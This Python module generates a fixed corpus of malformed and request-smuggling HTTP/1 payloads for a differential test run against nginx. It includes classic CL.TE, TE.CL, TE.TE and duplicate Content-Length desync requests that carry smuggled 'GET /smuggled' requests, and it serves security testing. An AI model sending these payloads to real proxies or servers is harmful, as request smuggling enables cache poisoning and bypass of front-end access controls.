"""Malformed and request-smuggling HTTP/1 payloads for the differential run against nginx.

Each payload is one connection's worth of bytes: a request under test, usually followed by
a well-formed request for /next with "Connection: close". A proxy that frames the first
request as intended serves both and closes; one that rejects it closes after the error; one
that frames it differently forwards a different number of requests (or different bodies)
upstream, which is what the harness compares.

payloads() returns [(name, bytes)], deterministic, names unique."""

HOST = b"Host: example.com\r\n"
NEXT = b"GET /next HTTP/1.1\r\nHost: example.com\r\nConnection: close\r\n\r\n"
CHUNKED_HELLO = b"5\r\nhello\r\n0\r\n\r\n"


def _post(fields, body, target=b"/p", version=b"HTTP/1.1", host=HOST, method=b"POST"):
    return method + b" " + target + b" " + version + b"\r\n" + host + fields + b"\r\n" + body


def _transfer_encoding():
    values = [
        ("plain", b"chunked"), ("capitalized", b"Chunked"), ("upper", b"CHUNKED"),
        ("mixed_case", b"cHuNkEd"), ("leading_sp", b" chunked"), ("trailing_sp", b"chunked "),
        ("padded_sp", b"   chunked   "), ("leading_tab", b"\tchunked"),
        ("trailing_tab", b"chunked\t"), ("gzip_chunked", b"gzip, chunked"),
        ("gzip_chunked_nosp", b"gzip,chunked"), ("deflate_chunked", b"deflate, chunked"),
        ("identity_chunked", b"identity, chunked"), ("chunked_gzip", b"chunked, gzip"),
        ("gzip", b"gzip"), ("identity", b"identity"), ("chunked_chunked", b"chunked, chunked"),
        ("trailing_comma", b"chunked,"), ("leading_comma", b",chunked"),
        ("leading_comma_sp", b", chunked"), ("x_chunked", b"x-chunked"), ("chunk", b"chunk"),
        ("chunkedx", b"chunkedx"), ("param", b"chunked;q=1"), ("quoted", b'"chunked"'),
        ("vtab_prefix", b"\x0bchunked"), ("vtab_suffix", b"chunked\x0b"),
        ("formfeed_prefix", b"\x0cchunked"), ("nul_suffix", b"chunked\x00"), ("empty", b""),
        ("space_only", b" "), ("inner_space", b"ch unked"), ("high_byte", b"chunked\xff"),
        ("cr_inside", b"chun\rked"),
    ]
    out = []
    for name, v in values:
        te = b"Transfer-Encoding: " + v + b"\r\n"
        out.append((f"te.{name}", _post(te, CHUNKED_HELLO) + NEXT))
        cl = b"Content-Length: %d\r\n" % len(CHUNKED_HELLO)
        out.append((f"te.{name}.cl_first", _post(cl + te, CHUNKED_HELLO) + NEXT))
        out.append((f"te.{name}.cl_after", _post(te + cl, CHUNKED_HELLO) + NEXT))
        out.append((f"te.{name}.twice", _post(b"Transfer-Encoding: chunked\r\n" + te,
                                              CHUNKED_HELLO) + NEXT))
        # CL.TE desync: a front end reading 4 bytes by Content-Length leaves the rest behind.
        out.append((f"te.{name}.cl_short", _post(b"Content-Length: 4\r\n" + te, CHUNKED_HELLO)
                    + NEXT))
    return out


def _field_syntax():
    cases = {
        "cl_space_before_colon": b"Content-Length : 5\r\n",
        "cl_tab_before_colon": b"Content-Length\t: 5\r\n",
        "cl_no_space": b"Content-Length:5\r\n",
        "cl_tab_value": b"Content-Length:\t5\r\n",
        "cl_trailing_space": b"Content-Length: 5 \r\n",
        "cl_trailing_tab": b"Content-Length: 5\t\r\n",
        "cl_lower": b"content-length: 5\r\n",
        "cl_upper": b"CONTENT-LENGTH: 5\r\n",
        "te_space_before_colon": b"Transfer-Encoding : chunked\r\n",
        "te_tab_before_colon": b"Transfer-Encoding\t: chunked\r\n",
        "te_name_prefix": b"Transfer-Encodingx: chunked\r\n",
        "te_name_underscore": b"Transfer_Encoding: chunked\r\n",
        "te_name_leading_x": b"XTransfer-Encoding: chunked\r\n",
        "cl_name_underscore": b"Content_Length: 5\r\n",
        "name_with_space": b"Bad Name: x\r\nContent-Length: 5\r\n",
        "name_with_at": b"Bad@Name: x\r\nContent-Length: 5\r\n",
        "name_with_paren": b"Bad(Name): x\r\nContent-Length: 5\r\n",
        "name_empty": b": x\r\nContent-Length: 5\r\n",
        "name_pseudo": b":authority: evil\r\nContent-Length: 5\r\n",
        "name_nul": b"X\x00Y: z\r\nContent-Length: 5\r\n",
        "name_high_byte": b"X\xc3\xa9: z\r\nContent-Length: 5\r\n",
        "name_no_colon": b"NoColon\r\nContent-Length: 5\r\n",
        "name_underscore": b"X_Y: z\r\nContent-Length: 5\r\n",
        "value_nul": b"X: a\x00b\r\nContent-Length: 5\r\n",
        "value_ctl_01": b"X: a\x01b\r\nContent-Length: 5\r\n",
        "value_del": b"X: a\x7fb\r\nContent-Length: 5\r\n",
        "value_vtab": b"X: a\x0bb\r\nContent-Length: 5\r\n",
        "value_formfeed": b"X: a\x0cb\r\nContent-Length: 5\r\n",
        "value_esc": b"X: a\x1bb\r\nContent-Length: 5\r\n",
        "value_high_bytes": b"X: caf\xc3\xa9 \xff\r\nContent-Length: 5\r\n",
        "value_tab_inside": b"X: a\tb\r\nContent-Length: 5\r\n",
        "value_empty": b"X:\r\nContent-Length: 5\r\n",
    }
    return [(f"field.{k}", _post(v, b"hello") + NEXT) for k, v in cases.items()]


def _obs_fold():
    cases = {
        "plain_value": b"X-Folded: first\r\n second\r\nContent-Length: 5\r\n",
        "tab": b"X-Folded: first\r\n\tsecond\r\nContent-Length: 5\r\n",
        "te_value": b"Transfer-Encoding: x\r\n chunked\r\n",
        "te_after_empty": b"Transfer-Encoding:\r\n chunked\r\n",
        "cl_value": b"Content-Length: 5\r\n 0\r\n",
        "first_line": b" X: y\r\nContent-Length: 5\r\n",
        "first_line_tab": b"\tX: y\r\nContent-Length: 5\r\n",
        "fold_only_ws": b"X: y\r\n \r\nContent-Length: 5\r\n",
        "fold_then_te": b"X: y\r\n Transfer-Encoding: chunked\r\nContent-Length: 5\r\n",
        "fold_lf": b"X: y\n second\r\nContent-Length: 5\r\n",
    }
    out = []
    for k, v in cases.items():
        body = CHUNKED_HELLO if k.startswith("te_") else b"hello"
        out.append((f"fold.{k}", _post(v, body) + NEXT))
    out.append(("fold.host_value",
                b"GET /p HTTP/1.1\r\nHost: example.com\r\n evil.com\r\n\r\n" + NEXT))
    out.append(("fold.in_trailer", _post(b"Transfer-Encoding: chunked\r\n",
                                         b"5\r\nhello\r\n0\r\nX: a\r\n b\r\n\r\n") + NEXT))
    return out


def _line_endings():
    g = b"GET /p HTTP/1.1"
    cases = {
        "request_line_lf": g + b"\n" + HOST + b"\r\n",
        "request_line_cr": g + b"\r" + HOST + b"\r\n",
        "request_line_cr_cr_lf": g + b"\r\r\n" + HOST + b"\r\n",
        "request_line_cr_mid": b"GET /p\rX HTTP/1.1\r\n" + HOST + b"\r\n",
        "header_lf": g + b"\r\nHost: example.com\n\r\n",
        "header_cr": g + b"\r\nHost: example.com\rX: y\r\n\r\n",
        "header_value_cr": g + b"\r\nHost: example.com\r\nX: a\rb\r\n\r\n",
        "end_lf_lf": g + b"\r\nHost: example.com\n\n",
        "end_crlf_lf": g + b"\r\nHost: example.com\r\n\n",
        "end_lf_crlf": g + b"\r\nHost: example.com\n\r\n",
        "end_cr_cr": g + b"\r\nHost: example.com\r\r",
        "all_lf": b"GET /p HTTP/1.1\nHost: example.com\nX: y\n\n",
        "name_cr": g + b"\r\nX\r: y\r\n" + HOST + b"\r\n",
        "crlf_before_request": b"\r\n" + g + b"\r\n" + HOST + b"\r\n",
        "lf_before_request": b"\n" + g + b"\r\n" + HOST + b"\r\n",
        "many_crlf_before_request": b"\r\n" * 20 + g + b"\r\n" + HOST + b"\r\n",
    }
    out = [(f"eol.{k}", v + NEXT) for k, v in cases.items()]
    te = b"Transfer-Encoding: chunked\r\n"
    chunked = {
        "chunk_size_lf": b"5\nhello\r\n0\r\n\r\n",
        "chunk_size_cr": b"5\rhello\r\n0\r\n\r\n",
        "chunk_data_lf": b"5\r\nhello\n0\r\n\r\n",
        "chunk_data_cr": b"5\r\nhello\r0\r\n\r\n",
        "chunk_data_none": b"5\r\nhello0\r\n\r\n",
        "chunk_data_xx": b"5\r\nhelloXX0\r\n\r\n",
        "last_chunk_lf": b"5\r\nhello\r\n0\n\r\n",
        "last_crlf_lf": b"5\r\nhello\r\n0\r\n\n",
        "ext_cr": b"5;a\rb\r\nhello\r\n0\r\n\r\n",
        "ext_lf": b"5;a\nb\r\nhello\r\n0\r\n\r\n",
        "trailer_lf": b"5\r\nhello\r\n0\r\nX: y\n\r\n",
        "trailer_cr": b"5\r\nhello\r\n0\r\nX: y\rZ: w\r\n\r\n",
        "all_lf_chunked": b"5\nhello\n0\n\n",
    }
    out += [(f"eol.{k}", _post(te, v) + NEXT) for k, v in chunked.items()]
    return out


def _chunk_framing():
    te = b"Transfer-Encoding: chunked\r\n"
    sizes = {
        "hex_prefix": b"0x5", "plus": b"+5", "minus": b"-5", "leading_space": b" 5",
        "trailing_space": b"5 ", "trailing_tab": b"5\t", "leading_zero": b"05",
        "many_zeros": b"0" * 20 + b"5", "upper_hex": b"5", "underscore": b"0_5",
        "nul": b"5\x00", "empty": b"", "letters": b"zz", "overflow_17": b"1" + b"0" * 16,
        "overflow_ffff": b"F" * 17, "max_u64": b"F" * 16, "exp": b"5e0",
    }
    out = []
    for k, s in sizes.items():
        out.append((f"chunk.size_{k}", _post(te, s + b"\r\nhello\r\n0\r\n\r\n") + NEXT))
    exts = {
        "token": b";ext", "token_value": b";ext=val", "quoted": b';ext="a b"',
        "quoted_escape": b';ext="a\\"b"', "unterminated_quote": b';ext="ab',
        "empty": b";", "empty_name": b";=v", "empty_value": b";e=", "space_before_semi": b" ;e",
        "space_after_semi": b"; e", "space_around_eq": b";e = v", "two": b";a=1;b=2",
        "bad_char": b";e=v@w", "ctl": b";e=\x01", "nul": b";e\x00", "high_byte": b";e=\xff",
        "long_4k": b";e=" + b"x" * 4000, "long_20k": b";e=" + b"x" * 20000,
        "comma": b";a,b", "tab": b"\t;e",
    }
    for k, e in exts.items():
        out.append((f"chunk.ext_{k}", _post(te, b"5" + e + b"\r\nhello\r\n0\r\n\r\n") + NEXT))
    bodies = {
        "upper_hex_a": b"A\r\n0123456789\r\n0\r\n\r\n",
        "lower_hex_a": b"a\r\n0123456789\r\n0\r\n\r\n",
        "size_too_big": b"6\r\nhello\r\n0\r\n\r\n",
        "size_too_small": b"4\r\nhello\r\n0\r\n\r\n",
        "no_last_chunk": b"5\r\nhello\r\n",
        "last_chunk_ext": b"5\r\nhello\r\n0;e=1\r\n\r\n",
        "last_chunk_zeros": b"5\r\nhello\r\n000\r\n\r\n",
        "smuggle_after_last": b"5\r\nhello\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n",
        "smuggle_in_size": b"5\r\nhello\r\n0\r\nGET /smuggled HTTP/1.1\r\n\r\n",
    }
    for k, b in bodies.items():
        out.append((f"chunk.{k}", _post(te, b) + NEXT))
    return out


def _content_length():
    values = {
        "plain": b"5", "leading_zero": b"05", "plus": b"+5", "minus": b"-5", "hex": b"0x5",
        "comma_same": b"5,5", "comma_same_sp": b"5, 5", "comma_diff": b"5, 6", "empty": b"",
        "letters": b"5a", "space_inside": b"5 5", "overflow_20": b"9" * 20,
        "overflow_u64": b"18446744073709551616", "max_i64": b"9223372036854775807",
        "exp": b"5e0", "decimal": b"5.0", "huge_valid": b"999999999999999",
        "nul": b"5\x00", "high_byte": b"5\xff",
    }
    out = []
    for k, v in values.items():
        out.append((f"cl.{k}", _post(b"Content-Length: " + v + b"\r\n", b"hello") + NEXT))
    dup = {
        "dup_equal": b"Content-Length: 5\r\nContent-Length: 5\r\n",
        "dup_diff": b"Content-Length: 5\r\nContent-Length: 6\r\n",
        "dup_diff_rev": b"Content-Length: 6\r\nContent-Length: 5\r\n",
        "dup_zero": b"Content-Length: 0\r\nContent-Length: 5\r\n",
        "get_with_body": None,
        "cl_zero_with_bytes": b"Content-Length: 0\r\n",
    }
    for k, f in dup.items():
        if f is None:
            out.append(("cl.get_with_body", _post(b"Content-Length: 5\r\n", b"hello",
                                                  method=b"GET") + NEXT))
            continue
        out.append((f"cl.{k}", _post(f, b"hello") + NEXT))
    out.append(("cl.over_1tib", _post(b"Content-Length: 2000000000000\r\n", b"hello") + NEXT))
    return out


def _hosts():
    hosts = {
        "plain": b"example.com", "port": b"example.com:8080", "ipv4": b"127.0.0.1",
        "ipv4_port": b"127.0.0.1:80", "ipv6": b"[::1]", "ipv6_port": b"[::1]:80",
        "ipv6_unclosed": b"[::1", "ipv6_bad": b"[zz::1]", "ipv6_no_brackets": b"::1",
        "empty": b"", "space_inside": b"exa mple.com", "slash": b"example.com/evil",
        "backslash": b"example.com\\evil", "userinfo": b"user@example.com",
        "double_dot": b"a..example.com", "leading_dot": b".example.com",
        "trailing_dot": b"example.com.", "empty_port": b"example.com:", "port_letters": b"example.com:80a",
        "port_big": b"example.com:99999", "port_negative": b"example.com:-1",
        "two_ports": b"example.com:80:81", "pct": b"ex%41mple.com", "pct_bad": b"ex%4mple.com",
        "underscore": b"a_b.example.com", "comma": b"a.com,b.com", "utf8": b"ex\xc3\xa4mple.com",
        "tab_inside": b"exa\tmple.com", "question": b"example.com?x", "hash": b"example.com#x",
        "idn": b"xn--bcher-kva.example", "tilde": b"~example.com", "brackets_only": b"[]",
        "nul": b"exa\x00mple.com",
    }
    out = [(f"host.{k}", b"GET /p HTTP/1.1\r\nHost: " + v + b"\r\n\r\n" + NEXT)
           for k, v in hosts.items()]
    out += [
        ("host.missing_11", b"GET /p HTTP/1.1\r\n\r\n" + NEXT),
        ("host.missing_10", b"GET /p HTTP/1.0\r\n\r\n"),
        ("host.two_same", b"GET /p HTTP/1.1\r\nHost: a.com\r\nHost: a.com\r\n\r\n" + NEXT),
        ("host.two_diff", b"GET /p HTTP/1.1\r\nHost: a.com\r\nHost: b.com\r\n\r\n" + NEXT),
        ("host.two_10", b"GET /p HTTP/1.0\r\nHost: a.com\r\nHost: b.com\r\n\r\n"),
        ("host.invalid_10", b"GET /p HTTP/1.0\r\nHost: a b\r\n\r\n"),
        ("host.absolute_form", b"GET http://example.com/p HTTP/1.1\r\nHost: example.com\r\n\r\n"
         + NEXT),
        ("host.absolute_form_differs",
         b"GET http://other.example/p HTTP/1.1\r\nHost: example.com\r\n\r\n" + NEXT),
        ("host.absolute_form_no_host", b"GET http://example.com/p HTTP/1.1\r\n\r\n" + NEXT),
        ("host.absolute_form_bad_host",
         b"GET http://example.com/p HTTP/1.1\r\nHost: a b\r\n\r\n" + NEXT),
    ]
    return out


def _versions():
    versions = {
        "10": b"HTTP/1.0", "11": b"HTTP/1.1", "12": b"HTTP/1.2", "19": b"HTTP/1.9",
        "1_10": b"HTTP/1.10", "20": b"HTTP/2.0", "2": b"HTTP/2", "30": b"HTTP/3.0",
        "99": b"HTTP/9.9", "lower": b"http/1.1", "no_minor": b"HTTP/1", "no_dot": b"HTTP/11",
        "suffix": b"HTTP/1.1x", "space_inside": b"HTTP/ 1.1", "leading_zero": b"HTTP/01.1",
        "minor_zero_pad": b"HTTP/1.01", "letters": b"HTTP/a.b", "https": b"HTTPS/1.1",
        "empty": b"", "09_style": None,
    }
    out = []
    for k, v in versions.items():
        if v is None:
            out.append(("version.http09", b"GET /p\r\n\r\n"))
            out.append(("version.http09_no_blank", b"GET /p\r\n"))
            continue
        line = b"GET /p " + v if v else b"GET /p "
        out.append((f"version.{k}", line + b"\r\n" + HOST + b"\r\n" + NEXT))
    out.append(("version.10_keepalive", b"GET /p HTTP/1.0\r\nConnection: keep-alive\r\n" + HOST
                + b"\r\n" + NEXT))
    out.append(("version.10_chunked", _post(b"Transfer-Encoding: chunked\r\n", CHUNKED_HELLO,
                                            version=b"HTTP/1.0") + NEXT))
    out.append(("version.10_chunked_cl", _post(b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n",
                                               CHUNKED_HELLO, version=b"HTTP/1.0") + NEXT))
    return out


def _request_lines():
    lines = {
        "double_space_before_target": b"GET  /p HTTP/1.1",
        "double_space_after_target": b"GET /p  HTTP/1.1",
        "tab_separators": b"GET\t/p\tHTTP/1.1",
        "leading_space": b" GET /p HTTP/1.1",
        "trailing_space": b"GET /p HTTP/1.1 ",
        "method_lower": b"get /p HTTP/1.1",
        "method_unknown": b"FROB /p HTTP/1.1",
        "method_token_chars": b"M-SEARCH /p HTTP/1.1",
        "method_dot": b"GET.X /p HTTP/1.1",
        "method_bad_char": b"G@T /p HTTP/1.1",
        "method_long": b"A" * 300 + b" /p HTTP/1.1",
        "method_empty": b" /p HTTP/1.1",
        "method_high_byte": b"G\xc3\x89T /p HTTP/1.1",
        "target_empty": b"GET  HTTP/1.1",
        "target_space": b"GET /a b HTTP/1.1",
        "target_tab": b"GET /a\tb HTTP/1.1",
        "target_nul": b"GET /a\x00b HTTP/1.1",
        "target_ctl": b"GET /a\x01b HTTP/1.1",
        "target_del": b"GET /a\x7fb HTTP/1.1",
        "target_high_bytes": b"GET /caf\xc3\xa9 HTTP/1.1",
        "target_hash": b"GET /p#frag HTTP/1.1",
        "target_no_slash": b"GET p HTTP/1.1",
        "target_query_only": b"GET ?x=1 HTTP/1.1",
        "absolute_http": b"GET http://example.com/p?q=1 HTTP/1.1",
        "absolute_https": b"GET https://example.com/p HTTP/1.1",
        "absolute_upper_scheme": b"GET HTTP://example.com/p HTTP/1.1",
        "absolute_no_path": b"GET http://example.com HTTP/1.1",
        "absolute_query_no_path": b"GET http://example.com?q=1 HTTP/1.1",
        "absolute_port": b"GET http://example.com:8080/p HTTP/1.1",
        "absolute_userinfo": b"GET http://user:pw@example.com/p HTTP/1.1",
        "absolute_ftp": b"GET ftp://example.com/p HTTP/1.1",
        "absolute_empty_authority": b"GET http:///p HTTP/1.1",
        "absolute_bad_authority": b"GET http://exa mple.com/p HTTP/1.1",
        "absolute_no_slashes": b"GET http:example.com/p HTTP/1.1",
        "asterisk_options": b"OPTIONS * HTTP/1.1",
        "asterisk_get": b"GET * HTTP/1.1",
        "asterisk_suffix": b"OPTIONS *x HTTP/1.1",
        "authority_get": b"GET example.com:80 HTTP/1.1",
        "connect_authority": b"CONNECT example.com:443 HTTP/1.1",
        "connect_no_port": b"CONNECT example.com HTTP/1.1",
        "connect_origin": b"CONNECT /p HTTP/1.1",
        "connect_with_body": None,
        "no_target_no_version": b"GET",
        "only_method_space": b"GET ",
        "garbage": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    }
    out = []
    for k, line in lines.items():
        if line is None:
            out.append(("line.connect_with_body",
                        b"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n"
                        b"Content-Length: 5\r\n\r\nhello" + NEXT))
            continue
        out.append((f"line.{k}", line + b"\r\n" + HOST + b"\r\n" + NEXT))
    return out


def _trailers():
    te = b"Transfer-Encoding: chunked\r\n"
    names = [b"Content-Length: 50", b"Transfer-Encoding: chunked", b"Host: evil.example",
             b"Authorization: Basic eA==", b"Connection: close", b"TE: trailers",
             b"Trailer: X", b"Content-Type: text/evil", b"Cookie: a=b", b"X-Checksum: abc"]
    out = []
    for n in names:
        tag = n.split(b":")[0].decode().lower()
        out.append((f"trailer.{tag}", _post(te, b"5\r\nhello\r\n0\r\n" + n + b"\r\n\r\n") + NEXT))
    out += [
        ("trailer.bad_name", _post(te, b"5\r\nhello\r\n0\r\nBad Name: x\r\n\r\n") + NEXT),
        ("trailer.no_colon", _post(te, b"5\r\nhello\r\n0\r\nNoColon\r\n\r\n") + NEXT),
        ("trailer.ctl_value", _post(te, b"5\r\nhello\r\n0\r\nX: a\x01b\r\n\r\n") + NEXT),
        ("trailer.many", _post(te, b"5\r\nhello\r\n0\r\n" + b"X: y\r\n" * 150 + b"\r\n") + NEXT),
        ("trailer.request_line", _post(te, b"5\r\nhello\r\n0\r\nGET /smuggled HTTP/1.1\r\n\r\n")
         + NEXT),
    ]
    return out


def _smuggling_classics():
    return [
        ("smuggle.cl_te", b"POST /p HTTP/1.1\r\nHost: example.com\r\nContent-Length: 13\r\n"
         b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nSMUGGLED" + NEXT),
        ("smuggle.te_cl", b"POST /p HTTP/1.1\r\nHost: example.com\r\nContent-Length: 3\r\n"
         b"Transfer-Encoding: chunked\r\n\r\n8\r\nSMUGGLED\r\n0\r\n\r\n" + NEXT),
        ("smuggle.te_te_space", b"POST /p HTTP/1.1\r\nHost: example.com\r\n"
         b"Transfer-Encoding: chunked\r\nTransfer-Encoding : x\r\n\r\n" + CHUNKED_HELLO + NEXT),
        ("smuggle.te_te_xchunked", b"POST /p HTTP/1.1\r\nHost: example.com\r\n"
         b"Transfer-Encoding: xchunked\r\nTransfer-Encoding: chunked\r\n\r\n" + CHUNKED_HELLO + NEXT),
        ("smuggle.cl_cl", b"POST /p HTTP/1.1\r\nHost: example.com\r\nContent-Length: 5\r\n"
         b"Content-Length: 40\r\n\r\nhelloGET /smuggled HTTP/1.1\r\nX: " + NEXT),
        ("smuggle.get_cl_body", b"GET /p HTTP/1.1\r\nHost: example.com\r\nContent-Length: 38\r\n\r\n"
         b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n" + NEXT),
        ("smuggle.head_cl_body", b"HEAD /p HTTP/1.1\r\nHost: example.com\r\nContent-Length: 38\r\n\r\n"
         b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n" + NEXT),
        ("smuggle.cl_zero_te", b"POST /p HTTP/1.1\r\nHost: example.com\r\nContent-Length: 0\r\n"
         b"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n" + NEXT),
        ("smuggle.chunk_ext_smuggle", b"POST /p HTTP/1.1\r\nHost: example.com\r\n"
         b"Transfer-Encoding: chunked\r\n\r\n2;\nxx\r\n10\r\n1f\r\nAAAABBBBCCCC\r\n0\r\n\r\n"
         b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n" + NEXT),
        ("smuggle.bare_lf_in_size", b"POST /p HTTP/1.1\r\nHost: example.com\r\n"
         b"Transfer-Encoding: chunked\r\n\r\n2\n\r\nxx\r\n0\r\n\r\n" + NEXT),
        ("smuggle.te_in_fold", b"POST /p HTTP/1.1\r\nHost: example.com\r\nContent-Length: 35\r\n"
         b"X: x\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n" + NEXT),
        ("smuggle.te_nul", b"POST /p HTTP/1.1\r\nHost: example.com\r\n"
         b"Transfer-Encoding: chunked\x00\r\nContent-Length: 5\r\n\r\nhello" + NEXT),
        ("smuggle.te_vtab_cl", b"POST /p HTTP/1.1\r\nHost: example.com\r\nContent-Length: 5\r\n"
         b"Transfer-Encoding:\x0bchunked\r\n\r\nhello" + NEXT),
        ("smuggle.expect_100", b"POST /p HTTP/1.1\r\nHost: example.com\r\nExpect: 100-continue\r\n"
         b"Content-Length: 5\r\n\r\nhello" + NEXT),
        ("smuggle.upgrade_h2c", b"GET /p HTTP/1.1\r\nHost: example.com\r\nUpgrade: h2c\r\n"
         b"Connection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n"
         + NEXT),
        ("smuggle.pipelined_bad_second", b"GET /p HTTP/1.1\r\nHost: example.com\r\n\r\n"
         b"GET /q HTTP/1.1\r\nHost: example.com\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello"
         + NEXT),
        ("smuggle.connection_close_te", b"POST /p HTTP/1.1\r\nHost: example.com\r\n"
         b"Connection: close, Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n\r\n" + CHUNKED_HELLO),
        ("smuggle.connection_content_length", b"POST /p HTTP/1.1\r\nHost: example.com\r\n"
         b"Connection: Content-Length\r\nContent-Length: 5\r\n\r\nhello" + NEXT),
    ]


def _limits():
    big = b"x" * 9000
    return [
        ("limit.header_line_9k", b"GET /p HTTP/1.1\r\n" + HOST + b"X-Big: " + big + b"\r\n\r\n" + NEXT),
        ("limit.headers_70k", b"GET /p HTTP/1.1\r\n" + HOST
         + b"".join(b"X-%d: %s\r\n" % (i, b"y" * 1000) for i in range(70)) + b"\r\n" + NEXT),
        ("limit.target_9k", b"GET /" + b"a" * 9000 + b" HTTP/1.1\r\n" + HOST + b"\r\n" + NEXT),
        ("limit.target_70k", b"GET /" + b"a" * 70000 + b" HTTP/1.1\r\n" + HOST + b"\r\n" + NEXT),
        ("limit.fields_150", b"GET /p HTTP/1.1\r\n" + HOST
         + b"".join(b"X-%d: y\r\n" % i for i in range(150)) + b"\r\n" + NEXT),
        ("limit.name_70k", b"GET /p HTTP/1.1\r\n" + HOST + b"X" * 70000 + b": y\r\n\r\n" + NEXT),
        ("limit.no_newline_70k", b"GET /" + b"a" * 70000),
    ]


def payloads():
    out = (_transfer_encoding() + _field_syntax() + _obs_fold() + _line_endings()
           + _chunk_framing() + _content_length() + _hosts() + _versions() + _request_lines()
           + _trailers() + _smuggling_classics() + _limits())
    names = [n for n, _ in out]
    assert len(names) == len(set(names)), "duplicate payload names"
    return out


if __name__ == "__main__":
    p = payloads()
    print(len(p), "payloads")
